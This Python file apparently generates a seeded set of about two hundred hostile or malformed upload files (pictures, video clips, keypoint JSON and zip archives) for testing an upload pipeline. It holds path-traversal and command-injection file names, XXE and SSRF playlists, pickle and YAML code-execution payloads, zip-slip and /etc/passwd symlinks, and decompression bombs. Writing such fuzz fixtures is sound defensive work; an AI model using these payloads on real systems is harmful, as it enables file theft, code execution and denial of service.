"""Two hundred files that mean harm or are broken, made from a seed: `files(folder, seed, address)`.

Every address that a file asks for leads to `address`, where a listener waits for nobody to come.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from fractions import Fraction
from pathlib import Path

import av
import numpy as np
from PIL import Image

Random = np.random.Generator

NAMES = (
    "../../evil.{}", "..\\..\\evil.{}", "/etc/evil.{}", "evil\n.{}", "$(reboot).{}", "CON.{}",
    "<img src=x onerror=alert(1)>.{}", "%2e%2e%2fevil.{}", ".evil.{}", "악몽 {{}}.{}",
    "evil" * 60 + ".{}", "evil;reboot.{}", "evil.{}.exe", "evil\u202e.{}", "file:///etc/passwd.{}",
    "{{0.__class__}}.{}",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One file: what it is, its field, the name that a browser would send, and where it lies."""

    kind: str
    role: str
    name: str
    path: Path


def files(folder: Path, seed: int, address: str) -> list[Hostile]:
    """All of them, written to `folder`; the same for the same seed and address."""
    random = np.random.default_rng(seed)
    made: list[Hostile] = []
    for role, maker, ending in (
        ("photo", _photos, "png"), ("motion", _clips, "mp4"), ("keypoints", _keypoints, "json"),
    ):  # fmt: skip
        for kind, content in maker(random, address):
            number = len(made)
            suffix = "zip" if content[:2] == b"PK" and role == "keypoints" else ending
            name = NAMES[number % len(NAMES)].format(suffix)
            path = folder / f"{number:03}.{suffix}"
            path.write_bytes(content)
            made.append(Hostile(kind, role, name, path))
    return made


# --- pictures -----------------------------------------------------------------------------------


def _picture(kind: str, size: tuple[int, int] = (96, 64), seed: int = 0) -> bytes:
    pixels = np.random.default_rng(seed).integers(0, 255, (size[1], size[0], 3), dtype=np.uint8)
    out = io.BytesIO()
    Image.fromarray(pixels).save(out, kind)
    return out.getvalue()


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _png(width: int, height: int, rows: bytes = b"", extra: bytes = b"") -> bytes:
    """A png that claims a size; its pixels are whatever `rows` says."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    data = _chunk(b"IDAT", zlib.compress(rows, 9))
    return b"\x89PNG\r\n\x1a\n" + head + extra + data + _chunk(b"IEND", b"")


def _photos(random: Random, address: str) -> Iterator[tuple[str, bytes]]:
    kinds = ("PNG", "JPEG", "GIF", "WEBP", "BMP", "TIFF")
    for kind in kinds * 3:
        whole = _picture(kind, seed=int(random.integers(1000)))
        yield f"cut {kind}", whole[: int(len(whole) * random.uniform(0.02, 0.98))]
    for kind in kinds * 3:
        yield f"flipped {kind}", _flip(_picture(kind), random)
    for width, height in ((12_000, 12_000), (30_000, 30_000), (2**31 - 1, 2**31 - 1), (0, 10)):
        yield f"claims {width} x {height}", _png(width, height)
    yield "bomb of 140 megabytes", _png(12_000, 4000, bytes(12_000 * 3 * 4000))
    yield (
        "text that unpacks",
        _png(8, 8, bytes(25 * 8), _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(9_000_000)))),
    )
    yield (
        "colours that unpack",
        _png(8, 8, bytes(25 * 8), _chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(9_000_000)))),
    )
    yield "one pixel", _picture("PNG", (1, 1))
    yield "very flat", _picture("PNG", (20_000, 1))
    yield "nothing", b""
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}/entity">]>'
    yield (
        "svg",
        f'<?xml version="1.0"?>{entity}<svg><image href="{address}/a.png"/>&e;</svg>'.encode(),
    )
    yield "html", f'<html><script src="{address}/a.js"></script></html>'.encode()
    yield "postscript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n"
    yield "pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n"
    yield "psd", b"8BPS\0\x01" + bytes(6) + struct.pack(">HIIHH", 3, 30_000, 30_000, 8, 3)
    yield "icon", b"\0\0\x01\0\x01\0" + bytes(16)
    yield "zip as png", _zip({"a.png": b"x"})
    yield "clip as png", _clip("mp4")[:4000]
    yield "zeros", bytes(50_000)
    yield "noise", random.bytes(50_000)
    yield "pickle", b"\x80\x04cos\nsystem\n(S'touch evil'\ntR."


# --- clips --------------------------------------------------------------------------------------

_CODECS = {"mp4": "libx264", "matroska": "libx264", "gif": "gif", "avi": "mpeg4", "webm": "libvpx"}


def _clip(kind: str, frames: int = 12) -> bytes:
    out = io.BytesIO()
    with av.open(out, "w", format=kind, options={"fflags": "bitexact"}) as container:
        stream = container.add_stream(_CODECS[kind], rate=Fraction(12))
        stream.width, stream.height = 64, 48
        stream.pix_fmt = "rgb8" if kind == "gif" else "yuv420p"
        for number in range(frames):
            picture = np.full((48, 64, 3), number * 20, np.uint8)
            frame = av.VideoFrame.from_ndarray(picture, format="rgb24")
            container.mux(stream.encode(frame.reformat(format=stream.pix_fmt)))
        container.mux(stream.encode(None))
    return out.getvalue()


def _box(name: bytes, *content: bytes) -> bytes:
    data = b"".join(content)
    return struct.pack(">I", len(data) + 8) + name + data


def _patched(clip: bytes, box: bytes, offset: int, value: bytes) -> bytes:
    """A clip with bytes overwritten at `offset` after the name of its first such box."""
    at = clip.index(box) + 4 + offset
    return clip[:at] + value + clip[at + len(value) :]


def _clips(random: Random, address: str) -> Iterator[tuple[str, bytes]]:
    whole = {kind: _clip(kind) for kind in _CODECS}
    for kind in [*_CODECS] * 5:
        content = whole[kind]
        yield f"cut {kind}", content[: int(len(content) * random.uniform(0.02, 0.95))]
    for kind in [*_CODECS] * 4:
        yield f"flipped {kind}", _flip(whole[kind], random)
    mp4 = whole["mp4"]
    yield "lasts for years", _patched(mp4, b"mvhd", 16, b"\x7f\xff\xff\xff")
    yield "claims 60000 x 60000", _patched(mp4, b"avc1", 24, b"\xea\x60\xea\x60")
    yield "four billion samples", _patched(mp4, b"stts", 4, b"\xff\xff\xff\xff")
    yield "samples elsewhere", _patched(mp4, b"stco", 8, b"\xff\xff\xff\xf0")
    yield "huge sizes", _patched(mp4, b"stsz", 4, b"\xff\xff\xff\xff\xff\xff\xff\xff")
    yield "data in another file", mp4.replace(b"url \0\0\0\x01", b"url \0\0\0\0")
    link = f"{address}/part.mov".encode() + b"\0"
    reference = _box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(link)), link)
    movie = _box(b"moov", _box(b"rmra", _box(b"rmda", reference)))
    yield "reference movie", _box(b"ftyp", b"qt  ", bytes(4)) + movie
    nested = b""
    for _ in range(3000):
        nested = _box(b"moov", nested)
    yield "boxes in boxes", _box(b"ftyp", b"isom", bytes(4)) + nested
    yield "a box of size zero", _box(b"ftyp", b"isom", bytes(4)) + b"\0\0\0\0moov" + bytes(64)
    yield "sixty-four bits", _box(b"ftyp", b"isom", bytes(4)) + b"\0\0\0\x01mdat" + b"\xff" * 8
    playlists = {
        "hls": f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{address}/a.ts\n",
        "hls of files": "#EXTM3U\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
        "hls by concat": f"#EXTM3U\n#EXTINF:9,\nconcat:{address}/a|file:///etc/passwd\n",
        "ffconcat": f"ffconcat version 1.0\nfile /etc/passwd\nfile {address}/b.mp4\n",
        "dash": f'<?xml version="1.0"?><MPD><Period><BaseURL>{address}/</BaseURL></Period></MPD>',
        "smil": f'<smil><body><video src="{address}/a"/></body></smil>',
        "sdp": f"v=0\nc=IN IP4 127.0.0.1\nm=video {address.rsplit(':', 1)[1]} RTP/AVP 96\n",
        "rtsp text": f"RTSPtext\nrtsp://{address[7:]}/a\n",
        "pls": f"[playlist]\nFile1={address}/a.mp4\n",
        "xspf": f"<playlist><trackList><location>{address}/a</location></trackList></playlist>",
        "asx": f'<asx version="3.0"><entry><ref href="{address}/a"/></entry></asx>',
        "image pattern": "%d.png\n",
    }
    for kind, text in playlists.items():
        yield kind, text.encode()
    yield "ftyp and hls", _box(b"ftyp", b"isom", bytes(4)) + playlists["hls"].encode()
    yield "matroska and noise", b"\x1a\x45\xdf\xa3" + random.bytes(9000)
    yield "riff and noise", b"RIFF" + struct.pack("<I", 2**32 - 1) + b"AVI " + random.bytes(9000)
    yield "gif claims 65535", b"GIF89a\xff\xff\xff\xff\x80\0\0" + random.bytes(2000)
    yield "one frame", _clip("mp4", 1)
    yield "one gif frame", _clip("gif", 1)
    yield "nothing", b""
    yield "text", b"This is a diary.\n" * 90
    yield "picture as clip", _picture("PNG")
    yield "zip as clip", _zip({"a.mp4": mp4})
    yield "elf", b"\x7fELF\x02\x01\x01" + bytes(500)


# --- keypoints ----------------------------------------------------------------------------------


def _zip(content: dict[str, bytes], link: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in content.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
        if link:  # a symbolic link, as Info-ZIP stores one
            entry = zipfile.ZipInfo("evil.json")
            entry.create_system, entry.external_attr = 3, 0o120777 << 16
            archive.writestr(entry, link)
    return out.getvalue()


def _person(*values: object) -> dict[str, object]:
    return {"people": [{"pose_keypoints_2d": [*values]}], "canvas_width": 64, "canvas_height": 64}


def _keypoints(random: Random, address: str) -> Iterator[tuple[str, bytes]]:
    good = json.dumps({"frames": [_person(*[9.0, 9.0, 1.0] * 25)] * 3}).encode()
    for _ in range(14):
        yield "cut json", good[: int(len(good) * random.uniform(0.02, 0.98))]
    for _ in range(8):
        yield "flipped json", _flip(good, random)
    for value in (
        "NaN",
        "Infinity",
        "-Infinity",
        "1e400",
        "9" * 5000,
        "null",
        '"9"',
        "true",
        "-1e308",
    ):
        yield f"joints of {value[:9]}", good.replace(b"9.0", value.encode())
    yield "deep", b"[" * 200_000
    yield "deep objects", b'{"a":' * 100_000 + b"1"
    for value in (
        "[]",
        "{}",
        "3",
        '"x"',
        '{"people": []}',
        '{"frames": {}}',
        '{"layout": []}',
        "\0",
        "[[[]]]",
    ):
        yield f"json {value}", value.encode()
    ours = {"layout": "coco17", "size": [64, 64], "fps": 1e-300, "keypoints": [], "score": []}
    yield "our own, empty", json.dumps(ours).encode()
    yield "our own, giant", json.dumps(ours | {"size": [1e300, -5], "fps": 30}).encode()
    yield "wide text", good.decode().encode("utf-16")
    yield "a million people", b'{"people":[' + b'{"pose_keypoints_2d":[]},' * 400_000 + b"{}]}"
    yield "zip of a link", _zip({}, "/etc/passwd")
    yield "zip of a link and more", _zip({"a.json": good}, "../../../../etc/passwd")
    climbing = ("../../evil.json", "/evil.json", "a/../../evil.json")
    yield "zip with paths", _zip(dict.fromkeys(climbing, good))
    yield "zip bomb", _zip({"a.json": b"[" + b"0," * 60_000_000 + b"0]"})
    yield "many bombs", _zip({f"{n}.json": bytes(2_000_000) for n in range(60)})
    yield "zip in zip", _zip({"a.json": _zip({"b.json": good})})
    yield "empty zip", _zip({})
    whole = _zip({"a.json": good, "b.json": good})
    for _ in range(4):
        yield "cut zip", whole[: int(len(whole) * random.uniform(0.1, 0.95))]
    for _ in range(4):
        yield "flipped zip", _flip(whole, random)
    yield "locked zip", whole.replace(b"PK\x03\x04\x14\0\0\0", b"PK\x03\x04\x14\0\1\0", 1)
    yield "address", json.dumps({"$ref": f"{address}/x.json"}).encode()
    yield "yaml", b"!!python/object/apply:os.system ['touch evil']"
    yield "nothing", b""


def _flip(content: bytes, random: Random) -> bytes:
    """Some bytes changed, the first four kept so that it is still taken for what it was."""
    data = bytearray(content)
    for at in random.integers(4, len(data), max(3, len(data) // 300)):
        data[at] = int(random.integers(256))
    return bytes(data)
